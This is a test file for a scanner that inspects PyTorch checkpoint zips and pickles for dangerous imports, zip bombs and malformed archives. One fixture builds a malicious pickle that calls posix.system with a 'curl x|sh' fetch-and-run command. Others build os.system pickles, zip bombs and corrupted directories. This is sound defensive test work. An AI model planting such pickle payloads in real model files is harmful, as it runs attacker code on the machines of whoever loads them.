import { describe, expect, it } from 'vitest';
import { bufferSource, inspectArchive } from '../../node/scan/inspect/index.js';
import { PickleWriter, writeZip } from '../fixtures/scan/builders.js';
import { torchStateDictPickle } from '../fixtures/scan/corpus.js';

const torchDataPickle = torchStateDictPickle;

const torchZip = (pkl: Buffer, deflate = false): Buffer => writeZip([
  { name: 'archive/data.pkl', data: pkl, deflate },
  { name: 'archive/byteorder', data: Buffer.from('little') },
  { name: 'archive/data/0', data: Buffer.from(new Float32Array([1, 2, 3, 4]).buffer) },
  { name: 'archive/version', data: Buffer.from('3\n') },
]);

const evil = new PickleWriter().proto(2).global('posix', 'system').string('curl x|sh').tuple1().reduce().stop().bytes();

describe('zip archives and PyTorch checkpoints', () => {
  it('a torch.save-style zip is a PyTorch checkpoint whose data.pkl imports only allowed names', async () => {
    const r = await inspectArchive(bufferSource(torchZip(torchDataPickle())));
    expect(r.pytorch).toBe(true);
    expect(r.findings).toEqual([]);
    expect(r.meta.entries).toBe(4);
    expect(r.meta.pickles).toEqual(['archive/data.pkl']);
    const imports = r.meta.members[0]?.meta?.imports.map((i) => `${i.module}.${i.name}`);
    expect(imports).toEqual(['collections.OrderedDict', 'torch._utils._rebuild_tensor_v2', 'torch.FloatStorage']);
    expect(r.meta.members[0]?.meta?.persistentIds).toBe(1);
  });

  it.each([false, true])('a payload in data.pkl (deflated: %s) is reported with its member path', async (deflate) => {
    const r = await inspectArchive(bufferSource(torchZip(evil, deflate)));
    expect(r.findings).toMatchObject([{ kind: 'dangerous-import', severity: 'critical', path: 'archive/data.pkl' }]);
  });

  it('a pickle member with another name, found by its first bytes, is walked too', async () => {
    const zip = writeZip([{ name: 'archive/data.pkl', data: torchDataPickle() }, { name: 'extra/state', data: evil }]);
    const r = await inspectArchive(bufferSource(zip));
    expect(r.findings).toMatchObject([{ kind: 'dangerous-import', path: 'extra/state' }]);
  });

  it('a zip bomb (declared ratio over the limit) is reported and never inflated', async () => {
    const zeros = Buffer.alloc(20 * 1024 * 1024);
    const zip = writeZip([{ name: 'archive/data.pkl', data: torchDataPickle() }, { name: 'archive/data/0', data: zeros, deflate: true }]);
    expect(zip.length).toBeLessThan(100_000);
    const r = await inspectArchive(bufferSource(zip));
    expect(r.findings).toMatchObject([{ kind: 'zip-bomb', severity: 'high', path: 'archive/data/0' }]);
  });

  it('a member that inflates past its declared size is caught at the declared size', async () => {
    const big = Buffer.concat([new PickleWriter().proto(2).global('os', 'system').bytes(), Buffer.alloc(200_000, 0x4e), Buffer.from('.')]);
    const zip = writeZip([{ name: 'archive/data.pkl', data: big, deflate: true, declaredUncompressed: 100 }]);
    const r = await inspectArchive(bufferSource(zip));
    expect(r.findings).toMatchObject([{ kind: 'zip-bomb', path: 'archive/data.pkl' }]);
    expect(r.findings[0]?.detail).toMatch(/inflates past the 100 bytes/);
  });

  it('a stored member whose sizes disagree is malformed', async () => {
    const zip = writeZip([{ name: 'archive/data.pkl', data: torchDataPickle(), declaredUncompressed: 10 }]);
    expect((await inspectArchive(bufferSource(zip))).findings).toMatchObject([{ kind: 'malformed', path: 'archive/data.pkl' }]);
  });

  it('nested archives are opened to the depth limit, and their findings name the path through them', async () => {
    const inner = torchZip(evil);
    const outer = writeZip([{ name: 'models/model.pt', data: inner }]);
    const r = await inspectArchive(bufferSource(outer));
    expect(r.findings).toMatchObject([{ kind: 'dangerous-import', path: 'models/model.pt!archive/data.pkl' }]);
    expect(r.meta.pickles).toEqual(['models/model.pt!archive/data.pkl']);
    let deep = inner;
    for (let i = 0; i < 4; i++) deep = writeZip([{ name: `level${i}.zip`, data: deep, deflate: i % 2 === 0 }]);
    const d = await inspectArchive(bufferSource(deep));
    expect(d.findings).toMatchObject([{ kind: 'limit', path: 'level3.zip!level2.zip!level1.zip' }]);
  });

  it('a pickle member over the size cap is a limit finding, not read', async () => {
    const r = await inspectArchive(bufferSource(torchZip(torchDataPickle())), { limits: { zipMemberBytes: 16 } });
    expect(r.findings).toMatchObject([{ kind: 'limit', path: 'archive/data.pkl' }]);
  });

  it('broken archives: truncated, lying directory, entry past the end, overlapping entries', async () => {
    const good = torchZip(torchDataPickle());
    const cut = await inspectArchive(bufferSource(good.subarray(0, good.length - 30)));
    expect(cut.findings).toMatchObject([{ kind: 'malformed' }]);
    const lying = Buffer.from(good);
    lying.writeUInt16LE(60_000, lying.length - 12); // 60,000 entries in a 4-entry directory
    expect((await inspectArchive(bufferSource(lying))).findings[0]?.detail).toMatch(/missing or truncated/);
    const past = Buffer.from(good);
    const dirAt = past.readUInt32LE(past.length - 6);
    past.writeUInt32LE(0x7fffffff, dirAt + 20); // first entry's compressed size
    expect((await inspectArchive(bufferSource(past))).findings[0]?.detail).toMatch(/outside the archive/);
    const overlap = Buffer.from(good);
    const secondCentral = dirAt + 46 + 'archive/data.pkl'.length;
    overlap.writeUInt32LE(0, secondCentral + 42); // the second entry claims the first one's offset
    const o = await inspectArchive(bufferSource(overlap));
    expect(o.findings.map((f) => f.kind)).toContain('zip-bomb');
  });

  it('a zip whose directory declares more entries than the limit is refused before reading it', async () => {
    const r = await inspectArchive(bufferSource(torchZip(torchDataPickle())), { limits: { zipEntries: 2 } });
    expect(r.findings).toMatchObject([{ kind: 'limit' }]);
  });
});
